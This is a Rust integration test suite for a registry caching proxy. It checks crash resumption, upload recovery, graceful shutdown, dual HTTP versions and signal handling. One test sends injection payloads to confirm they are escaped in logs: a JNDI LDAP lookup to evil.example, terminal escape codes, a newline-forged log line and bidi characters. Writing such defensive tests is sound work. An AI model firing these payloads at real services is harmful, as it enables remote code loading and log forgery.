//! The program itself, killed and stopped, with a registry on loopback.

use std::time::Duration;

use bytes::Bytes;
use http::Method;
use rustix::process::Signal;

use crate::support::{Blob, Fault, Gate, Image, Process, ScriptedRegistry, When};

const REPOSITORY: &str = "library/alpine";
const LATEST: &str = "/v2/library/alpine/manifests/latest";
const LEN: usize = 8 << 20;

/// kill -9 at any instant costs nothing that was stored, leaves nothing wrong, and loses no byte
/// that was written of what was not.
#[tokio::test]
async fn a_kill_in_mid_fill_is_resumed_by_the_next_process() {
    let hub = ScriptedRegistry::new();
    let image = Image::random(1, &[100_000]);
    hub.put_image(REPOSITORY, "latest", &image);
    let large = Blob::random(2, LEN);
    hub.put_blob(REPOSITORY, &large);
    let gate = Gate::new();
    hub.breaks(When::asked(&large.digest).nth(1), Fault::HoldAt(LEN / 2, gate.clone()));
    let mut larder = Process::before(hub.listen().await, "").await;
    let layer = &image.layers[0];
    larder.client().get(LATEST).await.assert_is(&image.manifest.blob);
    larder.client().get(&layer.path(REPOSITORY)).await.assert_is(layer);
    let is_stored = |larder: &Process| larder.files("blobs").iter().any(|(_, len)| *len == 100_000);
    larder.until(is_stored, "the layer is stored").await;

    let mut client = larder.raw().get("1.1", &large.path(REPOSITORY), &[]).await.unwrap();
    gate.reached().await;
    client.read_until(LEN / 2 - (64 << 10), 64 << 10).await.unwrap();
    let half = LEN as u64 / 2;
    let is_half = |larder: &Process| larder.files("fills").iter().any(|(_, len)| *len == half);
    larder.until(is_half, "half of the blob is on disk").await;
    larder.kill();
    let broken = client.finish().await;

    assert!(!broken.is_complete(), "the client of a killed proxy knows that it is not whole");
    hub.heal();
    hub.forget();
    larder.start_again().await;
    larder.client().get(LATEST).await.assert_is(&image.manifest.blob);
    larder.client().get(&layer.path(REPOSITORY)).await.assert_is(layer);
    hub.assert_not_asked();
    larder.client().get(&large.path(REPOSITORY)).await.assert_is(&large);
    let gets = hub.gets(&large.digest);
    let range = format!("bytes={half}-");
    assert_eq!((gets.len(), gets[0].header("range")), (1, Some(range.as_str())));
    assert_eq!(hub.body_bytes(&large.digest), half);
}

/// Sessions need no table: kill -9 between two requests of an upload costs the copy, and nothing
/// else.
#[tokio::test]
async fn an_upload_goes_on_after_a_kill() {
    let hub = ScriptedRegistry::new();
    let blob = Blob::random(5, 1 << 20);
    let mut larder =
        Process::before(hub.listen().await, "push = true\n[access]\nanonymous = 'push'").await;
    let send = async |larder: &Process, method: Method, path: &str, bytes: &Bytes| {
        let reply = larder.client().send(method, path, &[], bytes.clone()).await;
        (reply.status.as_u16(), reply.header("location").map(str::to_owned))
    };
    let uploads = format!("/v2/{REPOSITORY}/blobs/uploads/");
    let (status, begun) = send(&larder, Method::POST, &uploads, &Bytes::new()).await;
    assert_eq!(status, 202);
    let (status, appended) =
        send(&larder, Method::PATCH, &begun.unwrap(), &blob.bytes.slice(..LEN / 16)).await;
    assert_eq!(status, 202);
    larder.until(|larder| larder.files("uploads").len() == 1, "the copy is on disk").await;

    larder.kill();
    larder.start_again().await;

    larder.until(|larder| larder.files("uploads").is_empty(), "a copy of nobody's goes").await;
    let path = format!("{}?digest={}", appended.unwrap(), blob.digest);
    let (status, _) = send(&larder, Method::PUT, &path, &blob.bytes.slice(LEN / 16..)).await;
    assert_eq!(status, 201);
    assert_eq!(hub.blob(REPOSITORY, &blob.digest).as_ref(), Some(&blob.bytes));
    hub.forget();
    larder.client().get(&blob.path(REPOSITORY)).await.assert_is(&blob);
    assert_eq!(hub.gets(&blob.digest).len(), 1, "the missing copy costs a miss");
}

/// Every start is after some stop; the ordinary one ends with 0 and loses nothing either.
#[tokio::test]
async fn a_terminated_process_ends_well_and_the_next_is_warm() {
    let hub = ScriptedRegistry::new();
    let image = Image::random(1, &[100_000]);
    hub.put_image(REPOSITORY, "latest", &image);
    let mut larder = Process::before(hub.listen().await, "").await;
    larder.client().get(LATEST).await.assert_is(&image.manifest.blob);

    let status = larder.terminate().await;

    assert_eq!(status.code(), Some(0), "{}", larder.log());
    hub.forget();
    larder.start_again().await;
    larder.client().get(LATEST).await.assert_is(&image.manifest.blob);
    hub.assert_not_asked();
}

/// A registry that holds the second half of a blob until the gate opens.
fn with_a_held_blob() -> (ScriptedRegistry, Blob, Gate) {
    let hub = ScriptedRegistry::new();
    let blob = Blob::random(3, 1 << 20);
    hub.put_blob(REPOSITORY, &blob);
    let gate = Gate::new();
    hub.breaks(When::asked(&blob.digest), Fault::HoldAt(1 << 19, gate.clone()));
    (hub, blob, gate)
}

/// A deployment must not break the pulls of the minute: running transfers finish.
#[tokio::test]
async fn a_terminated_process_finishes_the_transfer_that_is_running() {
    let (hub, blob, gate) = with_a_held_blob();
    let mut larder = Process::before(hub.listen().await, "").await;
    let client = larder.raw().get("1.1", &blob.path(REPOSITORY), &[]).await.unwrap();
    gate.reached().await;

    let (status, reply) = tokio::join!(larder.terminate(), async {
        // Long enough for the signal to arrive; the gate opens whatever happened.
        tokio::time::timeout(Duration::from_millis(200), std::future::pending::<()>()).await.ok();
        gate.open();
        client.finish().await
    });

    reply.assert_is(&blob);
    assert_eq!(status.code(), Some(0));
}

/// The program speaks HTTP/1.1 and HTTP/2 on one port, without being told which.
#[tokio::test]
async fn the_program_serves_both_versions_on_one_port() {
    let hub = ScriptedRegistry::new();
    let blob = Blob::random(4, 300_000);
    hub.put_blob(REPOSITORY, &blob);
    let larder = Process::before(hub.listen().await, "").await;

    for version in crate::support::Version::ALL {
        let reply = larder.client().try_get(version, &blob.path(REPOSITORY)).await.unwrap();
        reply.assert_is(&blob);
    }
    assert_eq!(hub.gets(&blob.digest).len(), 1);
}

/// Row 151: a log is read in terminals, and by programs that believe in lines.
#[tokio::test]
async fn text_of_clients_is_escaped_in_the_log() {
    let hub = ScriptedRegistry::new();
    let larder = Process::before(hub.listen().await, "").await;
    let agent = "${jndi:ldap://evil.example/x}\u{fc}";
    let agent = [("User-Agent", agent), ("X-A", "secret.example")];
    for path in [
        "/v2/a%1b[31m/manifests/latest",
        "/v2/a%0aforged: line/manifests/latest".replace(' ', "%20").as_str(),
        "/v2/<svg>\u{fc}\u{202e}/manifests/latest",
        "/v2/a/manifests/latest?x=%1b\u{7f}",
    ] {
        let raw = larder.raw();
        drop(raw.get("1.1", path, &agent).await.unwrap());
    }
    // The other two are no HTTP.
    let lines = |larder: &Process| larder.log().matches(" larder::request: ").count();
    larder.until(|larder| lines(larder) == 2, "two lines").await;

    let log = larder.log();
    let is_raw = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
    assert_eq!(log.chars().find(|c| is_raw(*c)), None, "{log}");
    assert!(log.contains(r"\\x24{jndi:ldap://evil.example/x}\\xc3\\xbc"), "{log}");
    for never in ["${", "secret.example", "\nforged"] {
        assert!(!log.contains(never), "{log}");
    }
}

/// The operator at a terminal, and the script that has to have the machine free, ask twice.
#[tokio::test]
async fn a_second_signal_ends_the_process_at_once() {
    for [first, second] in [
        [Signal::TERM, Signal::TERM],
        [Signal::INT, Signal::INT],
        [Signal::TERM, Signal::INT],
        [Signal::INT, Signal::TERM],
    ] {
        let (hub, blob, gate) = with_a_held_blob();
        let mut larder = Process::before(hub.listen().await, "").await;
        let client = larder.raw().get("1.1", &blob.path(REPOSITORY), &[]).await.unwrap();
        gate.reached().await;

        larder.signal(first);
        larder.until(|larder| larder.log().contains("stopping"), "it stops").await;
        larder.signal(second);
        let status = larder.end().await;

        // At the end of the grace it would be 0.
        assert_eq!(status.code(), Some(1), "{first:?} {second:?}: {}", larder.log());
        assert!(!client.finish().await.is_complete(), "{first:?} {second:?}");
        larder.start_again().await;
        gate.open();
        larder.client().get(&blob.path(REPOSITORY)).await.assert_is(&blob);
    }
}
